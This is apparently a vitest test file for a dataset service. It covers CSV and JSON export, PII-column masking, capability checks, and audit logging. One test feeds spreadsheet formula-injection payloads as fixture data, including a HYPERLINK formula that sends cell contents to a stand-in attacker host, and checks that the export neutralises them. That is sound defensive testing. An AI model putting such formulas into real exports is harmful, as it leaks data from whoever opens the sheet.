import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS, startTestKernel, type TestKernel } from '../harness/index.ts';

describe.each(DIALECTS)('dataset export and PII masking (%s)', (dialect) => {
  let t: TestKernel;
  let editor: string;
  let datasetId: number;

  beforeAll(async () => {
    t = await startTestKernel({ dialect });
    editor = (await t.userToken('editor')).token;
    const project = await t.request('POST', '/api/projects', { body: { key: 'HR', name: 'People' } });
    const dataset = await t.request('POST', '/api/datasets', {
      body: {
        name: 'people',
        project_id: project.body.id,
        columns: [
          { name: 'name', type: 'string' },
          { name: 'email', type: 'string', pii: true },
          { name: 'age', type: 'integer' },
          { name: 'meta', type: 'json' },
        ],
      },
    });
    datasetId = dataset.body.id;
    const rows = Array.from({ length: 2500 }, (_, i) => `person ${i},p${i}@example.test,${20 + (i % 50)},"{""n"":${i}}"`);
    const load = await t.request('POST', `/api/datasets/${datasetId}/data`, { body: `name,email,age,meta\n${rows.join('\n')}\n`, headers: { 'content-type': 'text/csv' } });
    expect(load.status).toBe(200);
  });
  afterAll(async () => t?.stop());

  it('exports every row as CSV, streamed across pages, with a header line', async () => {
    const res = await t.request('GET', `/api/datasets/${datasetId}/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="people.csv"');
    const lines = res.text.trimEnd().split('\n');
    expect(lines[0]).toBe('name,email,age,meta');
    expect(lines).toHaveLength(2501);
    expect(lines[1]).toBe('person 0,p0@example.test,20,"{""n"":0}"');
    expect(lines[2500]).toBe('person 2499,p2499@example.test,69,"{""n"":2499}"');
  });

  it('exports every row as a JSON array of typed objects', async () => {
    const res = await t.request('GET', `/api/datasets/${datasetId}/export?format=json`);
    expect(res.status).toBe(200);
    const rows = JSON.parse(res.text);
    expect(rows).toHaveLength(2500);
    expect(rows[1234]).toEqual({ name: 'person 1234', email: 'p1234@example.test', age: 54, meta: { n: 1234 } });
    expect((await t.request('GET', `/api/datasets/${datasetId}/export?format=xml`)).status).toBe(400);
  });

  it('neutralises text cells that a spreadsheet would run as formulas in CSV exports, never numbers, never in JSON', async () => {
    const project = await t.request('POST', '/api/projects', { body: { key: 'SHEET', name: 'Sheets' } });
    const columns = [{ name: 'label', type: 'string' }, { name: 'amount', type: 'number' }, { name: 'count', type: 'integer' }, { name: 'extra', type: 'json' }, { name: '=total', type: 'string' }];
    const dataset = await t.request('POST', '/api/datasets', { body: { name: 'sheet', project_id: project.body.id, columns } });
    expect(dataset.status).toBe(201);
    const rows = [
      { label: '=HYPERLINK("http://evil.example/?x="&A1,"click")', amount: -3, count: -7, extra: '=1+1', '=total': '@SUM(A1:A9)' },
      { label: '+1', amount: -0.5, count: 0, extra: -2, '=total': '-' },
      { label: '\tleading tab', amount: 1, count: 1, extra: { f: '=x' }, '=total': '\rcarriage return' },
      { label: 'plain = text', amount: null, count: null, extra: null, '=total': "'already quoted" },
    ];
    expect((await t.request('POST', `/api/datasets/${dataset.body.id}/rows`, { body: rows })).status).toBe(200);

    const csv = await t.request('GET', `/api/datasets/${dataset.body.id}/export?format=csv`);
    expect(csv.status).toBe(200);
    const parsed = Papa.parse<string[]>(csv.text, { skipEmptyLines: true }).data;
    expect(parsed).toEqual([
      ['label', 'amount', 'count', 'extra', "'=total"],
      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-3', '-7', "'=1+1", "'@SUM(A1:A9)"],
      ["'+1", '-0.5', '0', '-2', "'-"],
      ["'\tleading tab", '1', '1', '{"f":"=x"}', "'\rcarriage return"],
      ['plain = text', '', '', '', "'already quoted"],
    ]);

    const json = await t.request('GET', `/api/datasets/${dataset.body.id}/export?format=json`);
    expect(json.status).toBe(200);
    expect(JSON.parse(json.text)).toEqual(rows);
  });

  it('masks PII columns for callers without datasets.pii.read, in rows and in exports', async () => {
    const rows = await t.request('GET', `/api/datasets/${datasetId}/rows?limit=2`, { token: editor });
    expect(rows.status).toBe(200);
    expect(rows.body.columns.find((c: { name: string }) => c.name === 'email')).toEqual({ name: 'email', type: 'string', masked: true });
    expect(rows.body.rows[0]).toEqual({ name: 'person 0', email: '***', age: 20, meta: { n: 0 } });
    const csv = await t.request('GET', `/api/datasets/${datasetId}/export`, { token: editor });
    expect(csv.text).not.toContain('@example.test');
    expect(csv.text.split('\n')[1]).toBe('person 0,***,20,"{""n"":0}"');
    const json = await t.request('GET', `/api/datasets/${datasetId}/export?format=json`, { token: editor });
    expect(json.text).not.toContain('@example.test');
  });

  it('refuses filtering or sorting on a masked column, which would reveal its values', async () => {
    for (const query of ['filter=email:eq:p1@example.test', 'filter=email:contains:p1', 'sort=email']) {
      const res = await t.request('GET', `/api/datasets/${datasetId}/rows?${query}`, { token: editor });
      expect(res.status, query).toBe(403);
    }
    expect((await t.request('GET', `/api/datasets/${datasetId}/rows?filter=age:eq:21&limit=1`, { token: editor })).body.rows[0].email).toBe('***');
  });

  it('shows PII to holders of datasets.pii.read, granted through a group', async () => {
    const editorUser = await t.userToken('editor', 'pii-reader');
    const group = await t.request('POST', '/api/groups', { body: { name: 'pii readers', capabilities: ['datasets.pii.read'] } });
    expect((await t.request('POST', `/api/groups/${group.body.id}/members`, { body: { user_id: editorUser.id } })).status).toBe(201);
    const rows = await t.request('GET', `/api/datasets/${datasetId}/rows?filter=email:eq:p7@example.test`, { token: editorUser.token });
    expect(rows.status).toBe(200);
    expect(rows.body.rows).toEqual([{ name: 'person 7', email: 'p7@example.test', age: 27, meta: { n: 7 } }]);
    expect(rows.body.columns.find((c: { name: string }) => c.name === 'email').masked).toBe(false);
  });

  it('never lets a description change undo a PII flag set at the same moment', async () => {
    const project = await t.request('POST', '/api/projects', { body: { key: 'RACE', name: 'Race' } });
    const created = await t.request('POST', '/api/datasets', { body: { name: 'race', project_id: project.body.id, columns: [{ name: 'note', type: 'string' }, { name: 'phone', type: 'string' }] } });
    for (let round = 0; round < 5; round += 1) {
      // An editor edits descriptions while an admin flags the phone column (and, next round, a holder unflags it).
      const flag = round % 2 === 0;
      const answers = await Promise.all([
        ...Array.from({ length: 6 }, (_, i) => t.request('PATCH', `/api/datasets/${created.body.id}`, { token: editor, body: { columns: [{ name: 'note', description: `round ${round}, edit ${i}` }] } })),
        t.request('PATCH', `/api/datasets/${created.body.id}`, { body: { columns: [{ name: 'phone', pii: flag }] } }),
      ]);
      expect(answers.map((a) => a.status)).toEqual([200, 200, 200, 200, 200, 200, 200]);
      const { columns } = (await t.request('GET', `/api/datasets/${created.body.id}`)).body;
      expect(columns.find((c: { name: string }) => c.name === 'phone').pii, `round ${round}`).toBe(flag);
      expect(columns.find((c: { name: string }) => c.name === 'note').description).toMatch(new RegExp(`^round ${round}, edit \\d$`));
    }
  });

  it('lets only holders of datasets.pii.read remove a PII flag; every flag change is audited by column, never with values', async () => {
    const reader = await t.userToken('editor', 'pii-steward');
    const group = await t.request('POST', '/api/groups', { body: { name: 'pii stewards', capabilities: ['datasets.pii.read'] } });
    expect((await t.request('POST', `/api/groups/${group.body.id}/members`, { body: { user_id: reader.id } })).status).toBe(201);
    const flags = async () => Object.fromEntries((await t.request('GET', `/api/datasets/${datasetId}`)).body.columns.map((c: { name: string; pii: boolean }) => [c.name, c.pii]));
    const auditOf = async (action: string) => (await t.request('GET', `/api/audit?action=${action}&target=dataset:${datasetId}&limit=500`)).body.items as { outcome: string; actor_username: string; details: Record<string, unknown> }[];
    const before = await t.request('GET', `/api/datasets/${datasetId}`);

    // An editor without the capability: every way of asking to unflag is refused, and nothing changes.
    for (const columns of [
      [{ name: 'email', pii: false }],
      [{ name: 'age', description: 'years' }, { name: 'email', pii: false, description: 'contact' }],
      [{ name: 'email', pii: true }, { name: 'email', pii: false }],
    ]) {
      const res = await t.request('PATCH', `/api/datasets/${datasetId}`, { token: editor, body: { name: 'renamed_people', columns } });
      expect(res.status, JSON.stringify(columns)).toBe(403);
      expect(res.body.detail).toMatch(/datasets\.pii\.read/);
    }
    expect((await t.request('GET', `/api/datasets/${datasetId}`)).body).toEqual(before.body);
    expect((await t.request('GET', `/api/datasets/${datasetId}/rows?limit=1`, { token: editor })).body.rows[0].email).toBe('***');
    expect((await auditOf('dataset.pii.unflag')).filter((r) => r.outcome === 'failure').length).toBeGreaterThanOrEqual(3);
    expect(await auditOf('dataset.pii.flag')).toEqual([]);
    // Asking for the flag it already has is no change.
    expect((await t.request('PATCH', `/api/datasets/${datasetId}`, { token: editor, body: { columns: [{ name: 'email', pii: true }] } })).status).toBe(200);
    expect(await auditOf('dataset.pii.flag')).toEqual([]);

    // A holder unflags; the editor may flag again (it only hides more).
    const unflag = await t.request('PATCH', `/api/datasets/${datasetId}`, { token: reader.token, body: { columns: [{ name: 'email', pii: false }] } });
    expect(unflag.status, unflag.text).toBe(200);
    expect((await flags()).email).toBe(false);
    const [unflagged] = (await auditOf('dataset.pii.unflag')).filter((r) => r.outcome === 'success');
    expect(unflagged).toMatchObject({ actor_username: 'pii-steward', details: { column: 'email' } });
    const flag = await t.request('PATCH', `/api/datasets/${datasetId}`, { token: editor, body: { columns: [{ name: 'email', pii: true }, { name: 'name', pii: true }] } });
    expect(flag.status, flag.text).toBe(200);
    expect(await flags()).toEqual({ name: true, email: true, age: false, meta: false });
    const flagged = await auditOf('dataset.pii.flag');
    expect(flagged.map((r) => r.details.column).sort()).toEqual(['email', 'name']);
    expect(JSON.stringify(await auditOf('dataset.pii.*'))).not.toMatch(/@example\.test|person \d/);
    expect((await t.request('PATCH', `/api/datasets/${datasetId}`, { token: reader.token, body: { columns: [{ name: 'name', pii: false }] } })).status).toBe(200);
  });

  it('audits exports', async () => {
    const audit = await t.request('GET', `/api/audit?action=dataset.export&target=dataset:${datasetId}`);
    expect(audit.body.items.length).toBeGreaterThanOrEqual(2);
    expect(audit.body.items[0].details).toMatchObject({ rows: 2500 });
  });
});
